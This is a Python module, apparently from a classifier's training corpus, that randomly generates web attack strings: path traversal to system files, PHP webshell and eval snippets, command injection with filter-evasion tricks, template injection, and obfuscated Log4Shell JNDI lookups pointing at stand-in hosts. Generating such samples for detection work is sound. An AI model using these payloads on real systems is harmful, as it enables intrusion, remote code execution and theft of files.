"""Files, commands and templates of the server."""

from __future__ import annotations

from classifiers.corpus.web_attack_tables import COMMANDS, FILES_UNIX, FILES_WINDOWS, TEMPLATES, WINDOWS_COMMANDS
from classifiers.corpus.web_draw import Draw, word


def lfi(rng: Draw) -> str:
    step = rng.choice(
        (
            "../",
            "../",
            "..\\",
            "....//",
            "..%2f",
            "%2e%2e/",
            "..%252f",
            "%2e%2e%2f",
            "..%c0%af",
            ".%2e/",
            "..;/",
            "..//",
            "..\\/",
            "%c0%ae%c0%ae/",
            "..%5c",
            "/../",
            "..././",
            "%uff0e%uff0e/",
        )
    )
    steps = step * rng.randint(1, 9)
    windows = "\\" in step or "5c" in step or rng.random() < 0.2
    file = rng.choice(FILES_WINDOWS if windows else FILES_UNIX)
    before = rng.choice(("", "", "/", word(rng) + "/", "file=", "./", "images/", "/var/www/", "c:\\", ".../"))
    end = rng.choice(("", "", "", "%00", "\0.jpg", "%00.html", "?", ".php", "%2500", "#", "/."))
    return rng.choice(
        (
            before + steps + file.lstrip("/"),
            before + steps + file.lstrip("/") + end,
            file,
            file + end,
            "file://" + file,
            before + steps + word(rng),
        )
    )


def php(rng: Draw) -> str:
    w, cmd = word(rng), rng.choice(COMMANDS)
    return rng.choice(
        (f"<?php system('{cmd}'); ?>", f"<?={w}($_GET['{w}'])?>", f"<?php eval($_POST['{w}']);", f"php://filter/convert.base64-encode/resource={w}.php", "php://input",
         "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==", f"expect://{cmd}", f"phar://{w}.jpg/{w}", f"zip://{w}.zip#{w}.php", f"${{@print(md5({w}))}}", "{${phpinfo()}}",
         f"O:{len(w)}:\"{w}\":1:{{s:4:\"file\";s:11:\"/etc/passwd\";}}", f"a:2:{{i:0;O:8:\"{w}\":0:{{}}}}", "';phpinfo();//", f"\".system('{cmd}').\"", f"assert($_REQUEST[{w}])",
         f"<?php passthru(base64_decode('{w}'));?>", f"call_user_func('{rng.choice(('system', 'exec', 'assert'))}','{cmd}')", f"preg_replace('/{w}/e','{w}()','{w}')", f"${{system({cmd})}}", f"print(`{cmd}`)", f"shell_exec('{cmd}')", f"<script language=php>{w}()</script>")
    )  # fmt: skip


def rce(rng: Draw) -> str:
    windows = rng.random() < 0.25
    cmd = rng.choice(WINDOWS_COMMANDS if windows else COMMANDS).replace("W", word(rng))
    if not windows and rng.random() < 0.3:
        cmd = rng.choice(
            (
                cmd.replace(" ", "${IFS}"),
                cmd.replace(" ", "$IFS$9"),
                cmd.replace(" ", "\t"),
                cmd.replace("cat", "c'a't"),
                cmd.replace("cat", "c\\at"),
                "{" + cmd.replace(" ", ",") + "}",
                "/???/??t " + cmd.split(" ")[-1],
                cmd.replace("a", "$@a", 1),
                '"' + "".join(cmd[:2]) + '"' + cmd[2:],
            )
        )
    joint = rng.choice(
        (
            ";",
            "; ",
            "|",
            "| ",
            "||",
            "&&",
            "&",
            " & ",
            "\n",
            "%0a",
            "%0d%0a",
            "`",
            "$(",
            "';",
            '";',
            "'|",
            ");",
            "<(",
            "'$(",
            ">|",
        )
    )
    close = {"`": "`", "$(": ")", "'$(": ")'", "<(": ")"}.get(
        joint, rng.choice(("", "", "", ";", "#", " #", "|", "&", "'", '"', " --"))
    )
    before = rng.choice(("", "", word(rng), "127.0.0.1", "1", word(rng) + ".txt", word(rng) + "@example.com"))
    return before + joint + cmd + close


def ssti(rng: Draw) -> str:
    a, b, w, cmd = rng.randint(2, 9999), rng.randint(2, 9999), word(rng), rng.choice(COMMANDS)
    return rng.choice(TEMPLATES).replace("AA", str(a)).replace("BB", str(b)).replace("WW", w).replace("CC", cmd)


def java(rng: Draw) -> str:
    host, cmd = (
        rng.choice(
            (
                f"{word(rng)}.example/{word(rng, 1, 3)}",
                f"{rng.randint(1, 250)}.{rng.randint(1, 250)}.{rng.randint(1, 250)}.{rng.randint(1, 250)}:1389/{word(rng, 1, 3)}",
            )
        ),
        rng.choice(COMMANDS),
    )
    scheme = rng.choice(("ldap", "rmi", "dns", "ldaps", "iiop"))
    letters = (
        "".join(
            rng.choice(
                (
                    c,
                    f"${{lower:{c}}}",
                    f"${{::-{c}}}",
                    f"${{upper:{c}}}",
                    f"${{{word(rng, 1, 4)}:{word(rng, 1, 4)}:-{c}}}",
                )
            )
            for c in "jndi"
        )
        if rng.random() < 0.5
        else rng.choice(("jndi", "JNDI", "JnDi"))
    )
    return rng.choice(
        (f"${{{letters}:{scheme}://{host}}}", f"${{{letters}:{scheme}://{host}}}", f"%{{(#_='multipart/form-data').(#cmd='{cmd}').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}}",
         f"%{{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('{cmd}'))}}", f"class.module.classLoader.resources.context.parent.pipeline.first.pattern={word(rng)}",
         f"${{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}", f"#{{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}", f"new java.lang.ProcessBuilder({{'{cmd}'}}).start()", f"rO0ABXNyABFqYXZhLnV0aWwu{word(rng, 8, 20)}",
         f"redirect:${{#a=new java.lang.ProcessBuilder('{word(rng)}').start()}}", "<java><object class=\"java.lang.ProcessBuilder\"><void method=\"start\"/></object></java>", f"java.lang.Runtime.getRuntime().exec(\"{cmd}\")", f"@type:com.sun.rowset.JdbcRowSetImpl dataSourceName:{scheme}://{host}")
    )  # fmt: skip
